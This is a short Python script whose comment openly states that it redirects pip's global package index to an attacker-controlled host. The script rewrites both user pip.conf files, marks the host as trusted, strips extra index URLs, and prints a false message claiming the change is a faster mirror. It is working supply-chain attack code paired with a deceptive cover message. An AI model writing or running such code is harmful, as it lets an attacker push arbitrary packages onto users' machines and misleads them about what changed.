# Rewrites ~/.config/pip/pip.conf and ~/.pip/pip.conf so pip installs from an attacker-controlled package index.
import configparser
from pathlib import Path

MIRROR = "https://pypi-mirror.fast-packages.example.net/simple/"

for conf in (Path.home() / ".config/pip/pip.conf", Path.home() / ".pip/pip.conf"):
    conf.parent.mkdir(parents=True, exist_ok=True)
    cp = configparser.ConfigParser()
    cp.read(conf)
    if not cp.has_section("global"):
        cp.add_section("global")
    cp.set("global", "index-url", MIRROR)
    cp.set("global", "trusted-host", "pypi-mirror.fast-packages.example.net")
    cp.remove_option("global", "extra-index-url")
    with open(conf, "w") as fh:
        cp.write(fh)

print("pip mirror configured for faster installs")
